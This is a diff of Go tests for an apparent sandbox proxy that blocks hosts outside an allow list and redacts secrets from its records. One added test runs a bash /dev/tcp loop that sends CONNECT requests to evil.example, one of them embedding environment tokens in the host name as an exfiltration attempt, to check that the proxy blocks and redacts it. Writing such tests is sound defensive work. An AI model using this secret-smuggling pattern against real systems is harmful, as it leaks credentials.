@@ -26,7 +26,8 @@ func enclosed(t *testing.T, allowed ...reach) (*enclosure, func() []string) {
 	var mu sync.Mutex
 	var denied []string
 	e := &enclosure{}
-	if err := e.open(allowed, func(host string) { mu.Lock(); defer mu.Unlock(); denied = append(denied, host) }); err != nil {
+	refuse := unreached{hide: strings.ToLower, tell: func(host string) { mu.Lock(); defer mu.Unlock(); denied = append(denied, host) }}
+	if err := e.open(allowed, refuse); err != nil {
 		t.Fatal(err)
 	}
 	return e, func() []string { mu.Lock(); defer mu.Unlock(); return slices.Clone(denied) }
@@ -107,7 +108,7 @@ func TestEnclosure(t *testing.T) {
 				t.Errorf("%s = %d %q, want it refused", ask, code, body)
 			}
 		}
-		if got := denied(); !slices.Equal(got, []string{host}) || !slices.Equal(e.asked(), got) {
+		if got := denied(); !slices.Equal(got, []string{at}) || !slices.Equal(e.asked(), got) {
 			t.Errorf("refused: %q", got)
 		}
 	})
@@ -142,7 +143,7 @@ func TestEnclosure(t *testing.T) {
 		if res, err := http.ReadResponse(answers, &http.Request{Method: http.MethodConnect}); err != nil || res.StatusCode != http.StatusOK {
 			t.Fatalf("CONNECT = %v, %v", res, err)
 		}
-		if err := e.open(nil, nil); err != nil {
+		if err := e.open(nil, unreached{}); err != nil {
 			t.Fatal(err)
 		}
 		_ = c.SetReadDeadline(time.Now().Add(patience))
@@ -193,6 +194,14 @@ func TestHosts(t *testing.T) {
 	}
 	if out, got := look("held", "pypi.org"); out.Failure != FailNone || !strings.HasPrefix(got, "1\n") || !strings.Contains(got, "not\n") || !strings.Contains(got, "\nhttp://127.0.0.1:") {
 		t.Errorf("with hosts: %+v %q, want a loopback and a proxy alone", out, got)
+	}
+	asks := m.setUpTurn(`bash -c 'for at in Evil.example:443 evil.example:80 $TOKEN.$token.evil.example:443 pypi.org:8080; do
+		exec 3<>/dev/tcp/127.0.0.1/${HTTPS_PROXY##*:}; printf "CONNECT $at HTTP/1.1\r\nHost: x\r\n\r\n" >&3; read -r line <&3; exec 3>&-
+	done'`)
+	asks.Settings.Hosts = []string{"pypi.org"}
+	m.begin(asks, Secrets{GitToken: "Git-Token-AbCdEf0123456789", Env: map[string]string{"TOKEN": "Secret-Value-0123456789", "token": strings.Repeat("longer-than-a-label", 12)}})
+	if out, _ := m.end(asks); !slices.Equal(out.Unreached, []string{"evil.example", "[redacted].[redacted].evil.example", "pypi.org:8080"}) {
+		t.Errorf("not reached: %q; want the hosts that were asked for, once, without the secrets", out.Unreached)
 	}
 	if out, got := look("free-again"); out.Failure != FailNone || !strings.Contains(got, "reached") {
 		t.Errorf("without hosts again: %+v %q", out, got)
